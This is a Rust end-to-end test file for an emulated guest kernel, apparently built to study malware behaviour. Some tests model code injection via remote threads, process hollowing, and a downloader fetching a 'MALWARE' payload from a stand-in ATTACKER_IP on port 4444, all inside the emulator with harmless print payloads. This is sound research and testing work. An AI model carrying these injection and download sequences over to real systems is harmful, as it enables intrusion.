//! End-to-end tests of the guest kernel: programs assembled to FE32, run
//! through the scheduler, exercising the syscall surface the FAROS attacks
//! are built on.

use faros_emu::asm::Asm;
use faros_emu::cpu::{CpuHooks, InsnCtx, ShadowLoc};
use faros_emu::isa::{Mem as M, Reg, Width};
use faros_emu::mmu::Perms;
use faros_kernel::event::{ByteRange, CopyRun, KernelEvents, NullObserver, Observer};
use faros_kernel::machine::{
    ExecMode, Machine, MachineConfig, MachineError, RunExit, IMAGE_BASE, STACK_SIZE, STACK_TOP,
};
use faros_kernel::module::{FdlImage, ModuleInfo, Section};
use faros_kernel::net::{NetworkFabric, RemoteEndpoint};
use faros_kernel::nt::{NtStatus, Sysno};
use faros_kernel::{FlowTuple, Pid, ProcessInfo, Tid};
use std::collections::BTreeMap;

const ATTACKER_IP: [u8; 4] = [169, 254, 26, 161];

fn image_from_asm(asm: Asm) -> FdlImage {
    let mut code = asm.assemble().expect("test program assembles");
    // Pad the section so the scratch area (IMAGE_BASE + 0x1000 / + 0x2000)
    // used by the tests is mapped.
    code.resize(0x3000, 0);
    FdlImage {
        entry: IMAGE_BASE,
        export_table_va: IMAGE_BASE + 0x0010_0000,
        sections: vec![Section { va: IMAGE_BASE, data: code, perms: Perms::RWX }],
        exports: vec![],
    }
}

/// Emit `int 0x2e` with the given service and register args.
fn syscall(asm: &mut Asm, sysno: Sysno, args: &[(Reg, u32)]) {
    for &(reg, val) in args {
        asm.mov_ri(reg, val);
    }
    asm.mov_ri(Reg::Eax, sysno as u32);
    asm.int_syscall();
}

fn run_machine(asm: Asm) -> Machine {
    let mut machine = Machine::new(MachineConfig::default());
    machine
        .install_program("C:/test.exe", &image_from_asm(asm))
        .unwrap();
    machine
        .spawn_process("C:/test.exe", false, None, &mut NullObserver)
        .unwrap();
    let exit = machine.run(5_000_000, &mut NullObserver);
    assert_eq!(exit, RunExit::AllExited, "test program must terminate");
    machine
}

#[test]
fn display_string_reaches_console() {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_label(Reg::Ebx, "msg");
    asm.mov_ri(Reg::Ecx, 5);
    asm.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    asm.int_syscall();
    asm.hlt();
    asm.label("msg");
    asm.raw(b"hello");
    let machine = run_machine(asm);
    assert_eq!(machine.console()[0].1, "hello");
}

#[test]
fn file_write_then_read_round_trips() {
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    // h = NtCreateFile("C:/out.txt")
    asm.mov_label(Reg::Ebx, "path");
    syscall(
        &mut asm,
        Sysno::NtCreateFile,
        &[(Reg::Ecx, 10), (Reg::Edx, 0), (Reg::Esi, scratch)],
    );
    // NtWriteFile(h, "DATA", 4)
    asm.ld4(Reg::Ebx, M::abs(scratch)); // handle
    asm.mov_label(Reg::Ecx, "data");
    syscall(&mut asm, Sysno::NtWriteFile, &[(Reg::Edx, 4), (Reg::Esi, 0)]);
    // seek back to 0
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSetInformationFile, &[(Reg::Ecx, 0)]);
    // NtReadFile(h, buf, 4) into scratch+8
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut asm,
        Sysno::NtReadFile,
        &[(Reg::Ecx, scratch + 8), (Reg::Edx, 4), (Reg::Esi, 0)],
    );
    // print the read-back bytes
    syscall(
        &mut asm,
        Sysno::NtDisplayString,
        &[(Reg::Ebx, scratch + 8), (Reg::Ecx, 4)],
    );
    asm.hlt();
    asm.label("path");
    asm.raw(b"C:/out.txt");
    asm.label("data");
    asm.raw(b"DATA");
    let machine = run_machine(asm);
    assert_eq!(machine.console()[0].1, "DATA");
    assert_eq!(machine.fs.read("C:/out.txt", 0, 16).unwrap(), b"DATA");
}

#[test]
fn virtual_alloc_is_usable_memory() {
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    // NtAllocateVirtualMemory(self, 0x2000, RW, &base)
    syscall(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[
            (Reg::Ebx, 0xffff_ffff),
            (Reg::Ecx, 0x2000),
            (Reg::Edx, 0b011),
            (Reg::Esi, scratch),
        ],
    );
    // store through the returned base, read back, print length-1 marker
    asm.ld4(Reg::Ebx, M::abs(scratch));
    asm.mov_ri(Reg::Ecx, 0x5a);
    asm.st1(M::reg(Reg::Ebx), Reg::Ecx);
    asm.ld1(Reg::Edx, M::reg(Reg::Ebx));
    asm.st1(M::abs(scratch + 4), Reg::Edx);
    syscall(
        &mut asm,
        Sysno::NtDisplayString,
        &[(Reg::Ebx, scratch + 4), (Reg::Ecx, 1)],
    );
    asm.hlt();
    let machine = run_machine(asm);
    assert_eq!(machine.console()[0].1, "Z");
}

#[test]
fn cross_process_write_and_remote_thread() {
    // Victim: waits forever (sleep loop). Injector: allocates RWX in victim,
    // writes a tiny payload, starts a remote thread running it; the payload
    // prints "PWN" and exits the victim process.
    let mut victim = Asm::new(IMAGE_BASE);
    victim.label("loop");
    syscall(&mut victim, Sysno::NtDelayExecution, &[(Reg::Ebx, 1000)]);
    victim.jmp("loop");

    // The payload, assembled at a fixed address the injector will request.
    // (Payload is position-dependent; injector allocates exactly there.)
    let payload_base = 0x0100_0000; // first NtAllocateVirtualMemory result
    let mut payload = Asm::new(payload_base);
    payload.mov_label(Reg::Ebx, "pmsg");
    payload.mov_ri(Reg::Ecx, 3);
    payload.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    payload.int_syscall();
    // ExitProcess(self)
    payload.mov_ri(Reg::Ebx, 0xffff_ffff);
    payload.mov_ri(Reg::Ecx, 0);
    payload.mov_ri(Reg::Eax, Sysno::NtTerminateProcess as u32);
    payload.int_syscall();
    payload.hlt();
    payload.label("pmsg");
    payload.raw(b"PWN");
    let payload_bytes = payload.assemble().unwrap();

    let scratch = IMAGE_BASE + 0x2000;
    let mut injector = Asm::new(IMAGE_BASE);
    // spawn victim suspended? No: spawn running, then inject.
    injector.mov_label(Reg::Ebx, "vpath");
    syscall(
        &mut injector,
        Sysno::NtCreateUserProcess,
        &[(Reg::Ecx, 13), (Reg::Edx, 0), (Reg::Esi, scratch)],
    );
    // alloc RWX in victim
    injector.ld4(Reg::Ebx, M::abs(scratch)); // victim process handle
    syscall(
        &mut injector,
        Sysno::NtAllocateVirtualMemory,
        &[
            (Reg::Ecx, 0x1000),
            (Reg::Edx, 0b111),
            (Reg::Esi, scratch + 12),
        ],
    );
    // write payload into victim at returned base
    injector.ld4(Reg::Ebx, M::abs(scratch));
    injector.ld4(Reg::Ecx, M::abs(scratch + 12)); // dst va in victim
    injector.mov_label(Reg::Edx, "payload");
    syscall(
        &mut injector,
        Sysno::NtWriteVirtualMemory,
        &[(Reg::Esi, payload_bytes.len() as u32)],
    );
    // CreateRemoteThread(victim, payload_va)
    injector.ld4(Reg::Ebx, M::abs(scratch));
    injector.ld4(Reg::Ecx, M::abs(scratch + 12));
    syscall(
        &mut injector,
        Sysno::NtCreateThreadEx,
        &[(Reg::Edx, 0), (Reg::Esi, 0), (Reg::Edi, 0)],
    );
    injector.hlt();
    injector.label("vpath");
    injector.raw(b"C:/victim.exe");
    injector.label("payload");
    injector.raw(&payload_bytes);

    let mut machine = Machine::new(MachineConfig::default());
    machine
        .install_program("C:/victim.exe", &image_from_asm(victim))
        .unwrap();
    machine
        .install_program("C:/inject.exe", &image_from_asm(injector))
        .unwrap();
    machine
        .spawn_process("C:/inject.exe", false, None, &mut NullObserver)
        .unwrap();
    let exit = machine.run(5_000_000, &mut NullObserver);
    assert_eq!(exit, RunExit::AllExited);
    let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
    assert_eq!(lines, vec!["PWN"], "payload must run inside the victim");
    // And it really ran in the victim's context:
    let victim_proc = machine.process_by_name("victim.exe").unwrap();
    assert_eq!(machine.console()[0].0, victim_proc.pid);
}

#[test]
fn kernel_writes_into_cached_code_are_executed() {
    // The routine `mov eax, imm32; ret` lives in the image's RWX section.
    // The guest calls it, patches its immediate through
    // NtWriteVirtualMemory(self) and then through NtReadFile, calling it
    // after each patch. The cached executor must re-decode after each
    // kernel write, exactly as the interpreter does.
    let scratch = IMAGE_BASE + 0x1000;
    let call_and_print = |asm: &mut Asm| {
        asm.call("routine");
        asm.st4(M::abs(scratch + 8), Reg::Eax);
        syscall(asm, Sysno::NtDisplayString, &[(Reg::Ebx, scratch + 8), (Reg::Ecx, 4)]);
    };
    let mut asm = Asm::new(IMAGE_BASE);
    call_and_print(&mut asm);
    asm.mov_label(Reg::Ecx, "routine");
    asm.add_ri(Reg::Ecx, 2); // the imm32 of the routine's `mov`
    asm.mov_label(Reg::Edx, "patch");
    syscall(
        &mut asm,
        Sysno::NtWriteVirtualMemory,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Esi, 4)],
    );
    call_and_print(&mut asm);
    asm.mov_label(Reg::Ebx, "path");
    syscall(
        &mut asm,
        Sysno::NtCreateFile,
        &[(Reg::Ecx, 12), (Reg::Edx, 0), (Reg::Esi, scratch)],
    );
    asm.ld4(Reg::Ebx, M::abs(scratch));
    asm.mov_label(Reg::Ecx, "routine");
    asm.add_ri(Reg::Ecx, 2);
    syscall(&mut asm, Sysno::NtReadFile, &[(Reg::Edx, 4), (Reg::Esi, 0)]);
    call_and_print(&mut asm);
    asm.hlt();
    asm.label("routine");
    asm.mov_ri(Reg::Eax, u32::from_le_bytes(*b"one!"));
    asm.ret();
    asm.label("patch");
    asm.raw(b"two!");
    asm.label("path");
    asm.raw(b"C:/patch.bin");
    let image = image_from_asm(asm);

    let run = |exec: ExecMode| {
        let mut machine = Machine::new(MachineConfig::default());
        machine.set_exec_mode(exec);
        machine.fs.create("C:/patch.bin", b"thr!".to_vec()).unwrap();
        machine.install_program("C:/test.exe", &image).unwrap();
        machine
            .spawn_process("C:/test.exe", false, None, &mut NullObserver)
            .unwrap();
        assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
        let lines: Vec<String> = machine.console().iter().map(|(_, s)| s.clone()).collect();
        (lines, machine.ticks(), machine.tc_stats().invalidations)
    };
    let (cached_lines, cached_ticks, invalidations) = run(ExecMode::Cached);
    let (interp_lines, interp_ticks, _) = run(ExecMode::Interpret);
    assert_eq!(interp_lines, ["one!", "two!", "thr!"], "each call sees the patched bytes");
    assert_eq!((cached_lines, cached_ticks), (interp_lines, interp_ticks));
    assert!(invalidations >= 2, "both kernel writes invalidate: {invalidations}");
}

#[test]
fn overlapping_self_copies_run_forward_byte_by_byte() {
    // NtWriteVirtualMemory(self) with the destination one byte past the
    // source replicates the first byte across the buffer, as a forward
    // byte loop does; one byte before the source it moves the buffer down.
    let program = |dst_delta: i32| {
        let mut asm = Asm::new(IMAGE_BASE);
        asm.mov_label(Reg::Ecx, "buf");
        asm.mov_label(Reg::Edx, "buf");
        asm.add_ri(Reg::Ecx, dst_delta as u32);
        syscall(&mut asm, Sysno::NtWriteVirtualMemory, &[(Reg::Ebx, 0xffff_ffff), (Reg::Esi, 7)]);
        asm.mov_label(Reg::Ebx, "buf");
        syscall(&mut asm, Sysno::NtDisplayString, &[(Reg::Ecx, 8)]);
        asm.hlt();
        asm.raw(b"_"); // what the move down overwrites
        asm.label("buf");
        asm.raw(b"ABCDEFGH");
        image_from_asm(asm)
    };
    let run = |image: &FdlImage, exec: ExecMode| {
        let mut machine = Machine::new(MachineConfig::default());
        machine.set_exec_mode(exec);
        machine.install_program("C:/test.exe", image).unwrap();
        machine.spawn_process("C:/test.exe", false, None, &mut NullObserver).unwrap();
        assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
        let lines: Vec<String> = machine.console().iter().map(|(_, s)| s.clone()).collect();
        (lines, machine.ticks())
    };
    for (delta, want) in [(1, "AAAAAAAA"), (-1, "BCDEFGGH")] {
        let image = program(delta);
        let cached = run(&image, ExecMode::Cached);
        assert_eq!(cached.0, [want], "dst = src {delta:+}");
        assert_eq!(cached, run(&image, ExecMode::Interpret), "dst = src {delta:+}");
    }
}

#[test]
fn a_copy_across_scattered_frames_reports_one_run_per_contiguous_piece() {
    // Source and destination both straddle a page boundary whose two
    // pages sit on non-adjacent frames (another mapping took the frame in
    // between), at different offsets: the 16-byte copy splits at the
    // destination's boundary (after 4 bytes) and at the source's (after
    // 8), and the observer sees exactly those three runs.
    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/test.exe", &image_from_asm(Asm::new(IMAGE_BASE))).unwrap();
    let mut rec = EventRecorder::default();
    let pid = machine.spawn_process("C:/test.exe", true, None, &mut rec).unwrap();
    let (src, dst) = (0x0060_0000, 0x0080_0000);
    for va in [src, 0x0070_0000, src + 0x1000, dst, 0x0090_0000, dst + 0x1000] {
        let kind = faros_kernel::process::RegionKind::Private;
        machine.map_fresh(pid, va, 0x1000, Perms::RW, kind, &mut rec).unwrap();
    }
    machine.write_guest(pid, src + 0xff8, b"0123456789abcdef").unwrap();
    machine.guest_copy(pid, src + 0xff8, pid, dst + 0xffc, 16, &mut rec).unwrap();

    let frame = |va: u32| machine.process(pid).unwrap().aspace.entry(va).unwrap().pfn * 0x1000;
    assert_eq!(
        [frame(src), frame(src + 0x1000), frame(dst), frame(dst + 0x1000)],
        [0x9000, 0xb000, 0xc000, 0xe000],
        "the pages' frames are pairwise non-adjacent"
    );
    let runs = vec![
        CopyRun { dst_phys: 0xcffc, src_phys: 0x9ff8, len: 4 },
        CopyRun { dst_phys: 0xe000, src_phys: 0x9ffc, len: 4 },
        CopyRun { dst_phys: 0xe004, src_phys: 0xb000, len: 8 },
    ];
    assert_eq!(rec.copies, vec![(pid, pid, runs)]);
    assert_eq!(machine.read_guest(pid, dst + 0xffc, 16).unwrap(), b"0123456789abcdef");
}

/// An attacker endpoint that serves a fixed payload after a "GET" request.
struct PayloadServer {
    payload: Vec<u8>,
}

impl RemoteEndpoint for PayloadServer {
    fn on_data(&mut self, data: &[u8]) -> Vec<Vec<u8>> {
        if data.starts_with(b"GET") {
            vec![self.payload.clone()]
        } else {
            Vec::new()
        }
    }
}

fn downloader_asm() -> Asm {
    let scratch = IMAGE_BASE + 0x2000;
    let mut asm = Asm::new(IMAGE_BASE);
    // socket
    syscall(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, scratch)]);
    // connect to attacker:4444
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut asm,
        Sysno::NtSocketConnect,
        &[
            (Reg::Ecx, u32::from_be_bytes(ATTACKER_IP)),
            (Reg::Edx, 4444),
        ],
    );
    // send "GET"
    asm.ld4(Reg::Ebx, M::abs(scratch));
    asm.mov_label(Reg::Ecx, "req");
    syscall(&mut asm, Sysno::NtSocketSend, &[(Reg::Edx, 3), (Reg::Esi, 0)]);
    // recv into scratch+16 (blocking)
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut asm,
        Sysno::NtSocketRecv,
        &[
            (Reg::Ecx, scratch + 16),
            (Reg::Edx, 64),
            (Reg::Esi, scratch + 8),
        ],
    );
    // print what we received
    asm.ld4(Reg::Ecx, M::abs(scratch + 8));
    syscall(&mut asm, Sysno::NtDisplayString, &[(Reg::Ebx, scratch + 16)]);
    asm.hlt();
    asm.label("req");
    asm.raw(b"GET");
    asm
}

#[test]
fn socket_download_delivers_payload() {
    let mut machine = Machine::new(MachineConfig::default());
    machine.net.add_endpoint(
        ATTACKER_IP,
        4444,
        Box::new(PayloadServer { payload: b"MALWARE".to_vec() }),
    );
    machine
        .install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
        .unwrap();
    machine
        .spawn_process("C:/dl.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    assert_eq!(machine.console()[0].1, "MALWARE");
}

#[test]
fn record_then_replay_is_identical() {
    // Record.
    let mut live = Machine::new(MachineConfig::default());
    live.net.add_endpoint(
        ATTACKER_IP,
        4444,
        Box::new(PayloadServer { payload: b"SECRET99".to_vec() }),
    );
    live.install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
        .unwrap();
    live.spawn_process("C:/dl.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(live.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let live_console: Vec<String> = live.console().iter().map(|(_, s)| s.clone()).collect();
    let live_ticks = live.ticks();
    let log = live.net.recorded().clone();

    // Replay with no endpoint attached.
    let config = MachineConfig::default();
    let fabric = NetworkFabric::new_replay(config.guest_ip, log);
    let mut replay = Machine::with_fabric(config, fabric);
    replay
        .install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
        .unwrap();
    replay
        .spawn_process("C:/dl.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(replay.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let replay_console: Vec<String> =
        replay.console().iter().map(|(_, s)| s.clone()).collect();

    assert_eq!(live_console, replay_console, "replay must be observably identical");
    assert_eq!(live_console[0], "SECRET99");
    assert!(replay.net.divergence().is_none());
    // Same instruction count — the strong determinism property.
    assert_eq!(live_ticks, replay.ticks());
}

#[test]
fn loaded_images_keep_the_bytes_the_loader_mapped() {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.hlt();
    let main = image_from_asm(asm);
    let dll = |va: u32| FdlImage {
        entry: va,
        export_table_va: va + 0x0010_0000,
        sections: vec![Section { va, data: vec![0x90; 0x100], perms: Perms::RX }],
        exports: vec![],
    };
    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/test.exe", &main).unwrap();
    machine.install_program("C:/never.dll", &dll(0x0200_0000)).unwrap();
    machine.install_program("C:/lib/extra.dll", &dll(0x0200_0000)).unwrap();
    machine.install_program("D:/extra.dll", &dll(0x0300_0000)).unwrap();
    let pid = machine
        .spawn_process("C:/test.exe", true, None, &mut NullObserver)
        .unwrap();
    machine.load_image_into(pid, "C:/lib/extra.dll", &mut NullObserver).unwrap();

    // Overwriting the file after the load leaves the loader's image intact:
    // the run executed what was mapped, not what the disk holds at the end.
    machine.fs.write("C:/test.exe", 0, &[0xff; 64]).unwrap();
    assert_eq!(machine.loaded_images()["test.exe"], main);
    assert_eq!(machine.loaded_images()["extra.dll"], dll(0x0200_0000));
    assert!(
        !machine.loaded_images().contains_key("never.dll"),
        "a file that was never loaded is no module of the run"
    );

    // A later load under the same module name replaces the entry.
    machine.load_image_into(pid, "D:/extra.dll", &mut NullObserver).unwrap();
    assert_eq!(machine.loaded_images()["extra.dll"], dll(0x0300_0000));
    let names: Vec<&str> = machine.loaded_images().keys().map(String::as_str).collect();
    assert_eq!(names, ["extra.dll", "test.exe"]);
}

#[test]
fn get_proc_address_stub_resolves_exports() {
    use faros_kernel::module::hash_name;
    let scratch = IMAGE_BASE + 0x2000;
    let mut asm = Asm::new(IMAGE_BASE);
    // EBX = hash("VirtualAlloc"); call GetProcAddress stub.
    asm.mov_ri(Reg::Ebx, hash_name("VirtualAlloc"));
    asm.mov_ri(Reg::Edx, 0); // will hold stub address
    asm.hlt(); // placeholder: patched below via direct kernel query
    let _ = asm;

    // Easier path: assemble with the export address resolved host-side.
    let machine_probe = Machine::new(MachineConfig::default());
    let ntdll = &machine_probe.kernel_modules()[0];
    let gpa = ntdll.find_export("GetProcAddress").unwrap().va;
    let valloc = ntdll.find_export("VirtualAlloc").unwrap().va;

    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_ri(Reg::Ebx, hash_name("VirtualAlloc"));
    asm.mov_ri(Reg::Edi, gpa);
    asm.call_reg(Reg::Edi);
    // EAX now holds VirtualAlloc's stub address; store for the assert.
    asm.st4(M::abs(scratch), Reg::Eax);
    syscall(
        &mut asm,
        Sysno::NtDisplayString,
        &[(Reg::Ebx, IMAGE_BASE), (Reg::Ecx, 0)],
    );
    asm.hlt();

    let mut machine = Machine::new(MachineConfig::default());
    machine
        .install_program("C:/gpa.exe", &image_from_asm(asm))
        .unwrap();
    let pid = machine
        .spawn_process("C:/gpa.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let got = machine.read_guest(pid, scratch, 4).unwrap();
    assert_eq!(u32::from_le_bytes(got.try_into().unwrap()), valloc);
}

#[test]
fn hollowing_primitives_suspend_set_context_resume() {
    // Spawn a benign child suspended, rewrite its thread context to point at
    // injected code, resume — the skeleton of process hollowing.
    let mut benign = Asm::new(IMAGE_BASE);
    benign.mov_label(Reg::Ebx, "bmsg");
    benign.mov_ri(Reg::Ecx, 6);
    benign.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    benign.int_syscall();
    benign.hlt();
    benign.label("bmsg");
    benign.raw(b"BENIGN");

    let payload_base = 0x0100_0000;
    let mut payload = Asm::new(payload_base);
    payload.mov_label(Reg::Ebx, "hmsg");
    payload.mov_ri(Reg::Ecx, 8);
    payload.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    payload.int_syscall();
    payload.mov_ri(Reg::Ebx, 0xffff_ffff);
    payload.mov_ri(Reg::Ecx, 0);
    payload.mov_ri(Reg::Eax, Sysno::NtTerminateProcess as u32);
    payload.int_syscall();
    payload.hlt();
    payload.label("hmsg");
    payload.raw(b"HOLLOWED");
    let payload_bytes = payload.assemble().unwrap();

    let scratch = IMAGE_BASE + 0x2000;
    let mut hollower = Asm::new(IMAGE_BASE);
    // CreateProcess suspended → out: [proc_h, thread_h, pid]
    hollower.mov_label(Reg::Ebx, "vpath");
    syscall(
        &mut hollower,
        Sysno::NtCreateUserProcess,
        &[(Reg::Ecx, 13), (Reg::Edx, 1), (Reg::Esi, scratch)],
    );
    // Alloc RWX in child.
    hollower.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut hollower,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b111), (Reg::Esi, scratch + 12)],
    );
    // Write payload.
    hollower.ld4(Reg::Ebx, M::abs(scratch));
    hollower.ld4(Reg::Ecx, M::abs(scratch + 12));
    hollower.mov_label(Reg::Edx, "payload");
    syscall(
        &mut hollower,
        Sysno::NtWriteVirtualMemory,
        &[(Reg::Esi, payload_bytes.len() as u32)],
    );
    // GetContext(thread) into scratch+0x20 (40 bytes).
    hollower.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(&mut hollower, Sysno::NtGetContextThread, &[(Reg::Ecx, scratch + 0x20)]);
    // ctx.eip (word 8) = payload base
    hollower.ld4(Reg::Edx, M::abs(scratch + 12));
    hollower.st4(M::abs(scratch + 0x20 + 32), Reg::Edx);
    // SetContext(thread)
    hollower.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(&mut hollower, Sysno::NtSetContextThread, &[(Reg::Ecx, scratch + 0x20)]);
    // Resume.
    hollower.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(&mut hollower, Sysno::NtResumeThread, &[]);
    hollower.hlt();
    hollower.label("vpath");
    hollower.raw(b"C:/benign.exe");
    hollower.label("payload");
    hollower.raw(&payload_bytes);

    let mut machine = Machine::new(MachineConfig::default());
    machine
        .install_program("C:/benign.exe", &image_from_asm(benign))
        .unwrap();
    machine
        .install_program("C:/hollow.exe", &image_from_asm(hollower))
        .unwrap();
    machine
        .spawn_process("C:/hollow.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
    assert_eq!(
        lines,
        vec!["HOLLOWED"],
        "the benign entry point must never run; the payload must"
    );
}

/// Records kernel events for assertions.
#[derive(Default)]
struct EventRecorder {
    net_rx: Vec<(Pid, FlowTuple, usize)>,
    copies: Vec<(Pid, Pid, Vec<CopyRun>)>,
    syscalls: Vec<Sysno>,
    processes: Vec<String>,
}

impl CpuHooks for EventRecorder {}
impl KernelEvents for EventRecorder {
    fn syscall_enter(&mut self, _pid: Pid, _tid: Tid, sysno: Sysno, _args: &[u32; 5]) {
        self.syscalls.push(sysno);
    }
    fn process_created(&mut self, info: &faros_kernel::ProcessInfo) {
        self.processes.push(info.name.clone());
    }
    fn net_rx(&mut self, pid: Pid, flow: &FlowTuple, dst: &[ByteRange]) {
        let len: u32 = dst.iter().map(|r| r.len).sum();
        self.net_rx.push((pid, *flow, len as usize));
    }
    fn guest_copy(&mut self, src_pid: Pid, dst_pid: Pid, runs: &[CopyRun]) {
        self.copies.push((src_pid, dst_pid, runs.to_vec()));
    }
}

#[test]
fn events_fire_with_physical_ranges() {
    let mut machine = Machine::new(MachineConfig::default());
    machine.net.add_endpoint(
        ATTACKER_IP,
        4444,
        Box::new(PayloadServer { payload: b"EVIL".to_vec() }),
    );
    machine
        .install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
        .unwrap();
    let mut rec = EventRecorder::default();
    machine.spawn_process("C:/dl.exe", false, None, &mut rec).unwrap();
    assert_eq!(machine.run(5_000_000, &mut rec), RunExit::AllExited);

    assert_eq!(rec.processes, vec!["dl.exe".to_string()]);
    assert!(rec.syscalls.contains(&Sysno::NtSocketConnect));
    assert!(rec.syscalls.contains(&Sysno::NtSocketRecv));
    assert_eq!(rec.net_rx.len(), 1);
    let (_, flow, len) = &rec.net_rx[0];
    assert_eq!(*len, 4);
    assert_eq!(flow.src_ip, ATTACKER_IP);
    assert_eq!(flow.src_port, 4444);
}

/// Records the process lifecycle events it receives, in order.
#[derive(Default)]
struct Lifecycle(Vec<(&'static str, Pid)>);

impl CpuHooks for Lifecycle {}
impl KernelEvents for Lifecycle {
    fn process_created(&mut self, info: &ProcessInfo) {
        self.0.push(("created", info.pid));
    }
    fn process_exited(&mut self, pid: Pid, _: &str) {
        self.0.push(("exited", pid));
    }
}

#[test]
fn a_spawn_that_cannot_load_its_image_ends_in_process_exited() {
    // An image that loads but covers the stack: the stack map fails after
    // `module_loaded`, and the spawn must roll back the same way.
    let stack = STACK_TOP - STACK_SIZE;
    let over_stack = FdlImage {
        entry: stack,
        export_table_va: 0,
        sections: vec![Section { va: stack, data: vec![0; 16], perms: Perms::RW }],
        exports: vec![],
    };
    for (contents, stack_conflict) in
        [(b"not an image".to_vec(), false), (over_stack.to_bytes(), true)]
    {
        let mut machine = Machine::new(MachineConfig::default());
        machine.fs.create("C:/notes.txt", contents).unwrap();
        let mut obs = Lifecycle::default();
        let err = machine.spawn_process("C:/notes.txt", false, None, &mut obs).unwrap_err();
        if stack_conflict {
            assert_eq!(err, MachineError::AddressConflict(stack));
        } else {
            assert!(matches!(err, MachineError::BadImage(_)), "{err:?}");
        }
        let Some(&("created", pid)) = obs.0.first() else {
            panic!("no process_created before the failure: {:?}", obs.0)
        };
        assert_eq!(obs.0, [("created", pid), ("exited", pid)]);
        assert!(machine.process(pid).is_none());
        assert!(machine.pslist().iter().all(|p| p.pid != pid));
    }
}

/// Counts every CPU hook and kernel event it receives, by name.
#[derive(Default)]
struct EventCounts(BTreeMap<&'static str, u64>);

impl EventCounts {
    fn bump(&mut self, event: &'static str) {
        *self.0.entry(event).or_default() += 1;
    }
}

impl CpuHooks for EventCounts {
    fn on_insn(&mut self, _: &InsnCtx) {
        self.bump("on_insn");
    }
    fn flow_copy(&mut self, _: Reg, _: Reg) {
        self.bump("flow_copy");
    }
    fn flow_union(&mut self, _: Reg, _: &[Reg], _: bool) {
        self.bump("flow_union");
    }
    fn flow_delete(&mut self, _: Reg) {
        self.bump("flow_delete");
    }
    fn flow_addr_dep(&mut self, _: Reg, _: &[Reg]) {
        self.bump("flow_addr_dep");
    }
    fn flow_addr_dep_bytes(&mut self, _: &[u32], _: &[Reg]) {
        self.bump("flow_addr_dep_bytes");
    }
    fn flow_load(&mut self, _: Reg, _: &[u32]) {
        self.bump("flow_load");
    }
    fn flow_store(&mut self, _: &[u32], _: Reg) {
        self.bump("flow_store");
    }
    fn flow_delete_mem(&mut self, _: &[u32]) {
        self.bump("flow_delete_mem");
    }
    fn on_load(&mut self, _: &InsnCtx, _: u32, _: &[u32], _: Width, _: Reg) {
        self.bump("on_load");
    }
    fn on_control(&mut self, _: &InsnCtx, _: u32, _: Option<ShadowLoc>) {
        self.bump("on_control");
    }
    fn on_branch(&mut self, _: &InsnCtx, _: bool) {
        self.bump("on_branch");
    }
    fn flow_flags(&mut self, _: &[Reg]) {
        self.bump("flow_flags");
    }
}

impl KernelEvents for EventCounts {
    fn syscall_enter(&mut self, _: Pid, _: Tid, _: Sysno, _: &[u32; 5]) {
        self.bump("syscall_enter");
    }
    fn syscall_exit(&mut self, _: Pid, _: Tid, _: Sysno, _: NtStatus) {
        self.bump("syscall_exit");
    }
    fn process_created(&mut self, _: &ProcessInfo) {
        self.bump("process_created");
    }
    fn process_exited(&mut self, _: Pid, _: &str) {
        self.bump("process_exited");
    }
    fn thread_created(&mut self, _: Pid, _: Tid) {
        self.bump("thread_created");
    }
    fn thread_exited(&mut self, _: Pid, _: Tid) {
        self.bump("thread_exited");
    }
    fn module_loaded(&mut self, _: Option<Pid>, _: &ModuleInfo, _: &[ByteRange]) {
        self.bump("module_loaded");
    }
    fn net_rx(&mut self, _: Pid, _: &FlowTuple, _: &[ByteRange]) {
        self.bump("net_rx");
    }
    fn net_tx(&mut self, _: Pid, _: &FlowTuple, _: &[ByteRange]) {
        self.bump("net_tx");
    }
    fn file_read(&mut self, _: Pid, _: &str, _: u32, _: &[ByteRange]) {
        self.bump("file_read");
    }
    fn file_write(&mut self, _: Pid, _: &str, _: u32, _: &[ByteRange]) {
        self.bump("file_write");
    }
    fn guest_copy(&mut self, _: Pid, _: Pid, _: &[CopyRun]) {
        self.bump("guest_copy");
    }
